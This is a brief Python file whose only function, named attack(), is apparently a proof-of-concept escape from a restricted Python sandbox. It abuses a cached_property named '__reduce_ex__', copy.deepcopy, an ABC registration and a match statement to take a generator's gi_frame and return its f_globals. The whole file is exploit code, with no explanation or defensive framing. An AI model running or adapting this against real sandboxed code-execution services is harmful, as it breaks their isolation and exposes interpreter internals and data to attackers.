import copy
from abc import ABC
from functools import cached_property
class U(ABC): pass
def g(): yield 1
class CP(cached_property): pass
class A: pass
def attack():
    place = CP(lambda self: lambda p: (lambda: U, (), (None, {"__match_args__": ("gi_frame",)})))
    place.attrname = "__reduce_ex__"
    A.x = place
    a = A()
    a.x
    copy.deepcopy(a)
    gen = g()
    U.register(type(gen))
    match gen:
        case U(frame):
            return {"proof": str(frame.f_globals)}
